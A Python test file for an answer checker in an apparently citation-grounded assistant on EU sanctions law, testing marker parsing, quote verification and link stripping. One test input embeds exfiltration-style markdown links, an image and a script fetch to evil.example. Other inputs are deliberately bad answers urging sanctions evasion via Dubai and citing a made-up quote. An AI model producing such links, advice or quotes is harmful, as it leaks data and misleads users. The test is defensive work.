"""check_answer: marker mapping, uncited sentences, quote checks, link stripping, exact values."""

from __future__ import annotations

from assistant.cite import SENTINEL, check_answer, markers, quote_found, sentences
from assistant.types import Citation
from tests.citations import ANNEX, ART_1A

UNGP = Citation(
    n=4,
    source_id="ungps-2011",
    title="UN Guiding Principles on Business and Human Rights",
    kind="standard",
    locator="Principle 17",
    page="17",
    quote="In order to identify, prevent, mitigate and account for how they address their adverse human rights impacts, "
    "business enterprises should carry out human rights due diligence.",
    chunk_id="ungps-2011:p17:0",
)
PACK = [ANNEX, ART_1A, UNGP]

GOOD = (
    "Thermal imaging cameras are listed in Annex III, item 7 [1]. "
    "Article 1a prohibits selling Annex III equipment to any person in Iran [2]. "
    "The standards expect human rights due diligence [4]."
)


def test_markers_in_order_with_lists() -> None:
    assert markers("a [1] b [2, 3] c [1][12] d [x] [1000]") == [1, 2, 3, 1, 12]


def test_sentences_split_keeps_markers_and_abbreviations() -> None:
    text = (
        "## Short answer\n"
        "**What the law requires:**\n"
        "Thermal cameras are listed, e.g. in item 7 [1]. Art. 1a applies to sales [2].\n"
        "- Check the end user [4]\n"
        "1. It says “it shall be prohibited. To sell” there [2]. Next one.\n"
    )
    assert sentences(text) == [
        "Thermal cameras are listed, e.g. in item 7 [1].",
        "Art. 1a applies to sales [2].",
        "Check the end user [4]",
        "It says “it shall be prohibited. To sell” there [2].",
        "Next one.",
    ]


def test_good_answer_is_ok() -> None:
    checked = check_answer(GOOD, PACK)
    assert checked.ok is True
    assert checked.text == GOOD
    assert [c.n for c in checked.citations] == [1, 2, 4]
    assert checked.sentence_count == 3
    assert checked.uncited_sentences == []
    assert checked.uncited_share == 0.0
    assert checked.warnings == []


def test_unknown_markers_are_dropped_and_counted() -> None:
    text = "Thermal imaging cameras are listed in Annex III [1][9]. Their sale to Iran is prohibited [2, 9]. See also [7]."
    checked = check_answer(text, PACK)
    assert checked.text == "Thermal imaging cameras are listed in Annex III [1]. Their sale to Iran is prohibited [2]. See also."
    assert checked.dropped_markers == [9, 9, 7]
    assert [c.n for c in checked.citations] == [1, 2]
    assert checked.warnings == ["Dropped 3 citation markers that name no evidence passage: [9], [7]."]
    assert checked.ok is True


def test_uncited_sentence_is_flagged() -> None:
    text = "Thermal imaging cameras are listed in Annex III [1]. You can probably ship them through Dubai."
    checked = check_answer(text, PACK)
    assert checked.uncited_sentences == ["You can probably ship them through Dubai."]
    assert checked.sentence_count == 2
    assert checked.uncited_share == 0.5
    assert checked.warnings == ["1 of 2 sentences cite no passage."]
    assert checked.ok is True


def test_mostly_uncited_answer_fails() -> None:
    text = "Thermal cameras are listed [1]. Shipping through Dubai is fine. Nobody checks re-exports. Go ahead with the sale."
    checked = check_answer(text, PACK)
    assert checked.uncited_share == 0.75
    assert checked.warnings == ["3 of 4 sentences cite no passage."]
    assert checked.ok is False


def test_fabricated_quote_is_flagged() -> None:
    text = 'Annex III says "thermal imaging equipment may be sold to Iran freely" [1].'
    checked = check_answer(text, PACK)
    assert checked.fabricated_quotes == ["thermal imaging equipment may be sold to Iran freely"]
    assert checked.unverified_quotes == ["thermal imaging equipment may be sold to Iran freely"]
    assert checked.warnings == ["Quote not found in any evidence passage: “thermal imaging equipment may be sold to Iran freely”."]
    assert checked.ok is False


def test_exact_quote_verified_ignoring_case_whitespace_and_ellipsis() -> None:
    text = (
        "The regulation prohibits “TO SELL, supply, transfer   or export, directly or indirectly, equipment” [2]. "
        'It covers "night vision, thermal imaging equipment … other than those controlled by the Common Military List" [1].'
    )
    checked = check_answer(text, PACK)
    assert checked.unverified_quotes == []
    assert checked.warnings == []
    assert checked.ok is True


def test_quote_from_another_passage_is_misattributed_not_fabricated() -> None:
    text = 'The regulation lists "night vision, thermal imaging equipment and image intensifier tubes" [2].'
    checked = check_answer(text, PACK)
    assert checked.unverified_quotes == ["night vision, thermal imaging equipment and image intensifier tubes"]
    assert checked.fabricated_quotes == []
    assert checked.warnings == [
        "Quote not found in the cited passage [2]: “night vision, thermal imaging equipment and image intensifier tubes”."
    ]
    assert checked.ok is True


def test_short_quotes_are_not_checked() -> None:
    checked = check_answer('Annex III covers "internal repression" equipment [1].', PACK)
    assert checked.unverified_quotes == []
    assert checked.ok is True


def test_external_image_link_and_html_are_stripped() -> None:
    text = (
        "Thermal imaging cameras are listed in Annex III [1]. ![status](https://evil.example/x.png?d=IRAN-DEAL) "
        "See [the register](http://evil.example/?q=secret) and [the source](/source/eu-reg-359-2011#annex-iii) [1].\n"
        '<img src="https://evil.example/p.gif"><script>fetch("https://evil.example")</script>'
        "Sale to Iran is prohibited [2].\n"
        "[ref]: https://evil.example/ref"
    )
    checked = check_answer(text, PACK)
    assert checked.text == (
        "Thermal imaging cameras are listed in Annex III [1]. "
        "See the register and [the source](/source/eu-reg-359-2011#annex-iii) [1].\n"
        "Sale to Iran is prohibited [2]."
    )
    assert "evil.example" not in checked.text
    assert checked.removed_links == 3
    assert checked.removed_html == 2
    assert checked.warnings == ["Removed 3 links or images to other sites.", "Removed raw HTML."]
    assert checked.ok is True


def test_sentinel_is_a_bad_failure() -> None:
    checked = check_answer(SENTINEL, PACK)
    assert checked.insufficient is True
    assert checked.citations == []
    assert checked.sentence_count == 0
    assert checked.warnings == ["The model found that the evidence does not answer the question."]
    assert checked.ok is False
    mixed = check_answer(f"Thermal cameras are listed [1]. {SENTINEL}", PACK)
    assert mixed.insufficient is True
    assert mixed.ok is False


def test_no_valid_citation_fails() -> None:
    checked = check_answer("Thermal cameras are listed in Annex III [5].", PACK)
    assert checked.text == "Thermal cameras are listed in Annex III."
    assert checked.citations == []
    assert checked.uncited_share == 1.0
    assert checked.warnings == [
        "Dropped 1 citation marker that names no evidence passage: [5].",
        "1 of 1 sentence cites no passage.",
        "No valid citation remains in the answer.",
    ]
    assert checked.ok is False
    assert check_answer("", PACK).ok is False


def test_quote_found_needs_parts_in_order() -> None:
    passage = ART_1A.quote
    assert quote_found("to sell … in Iran", [passage])
    assert not quote_found("in Iran … to sell", [passage])
    assert quote_found("‘to sell, supply’", ["to sell, supply"])
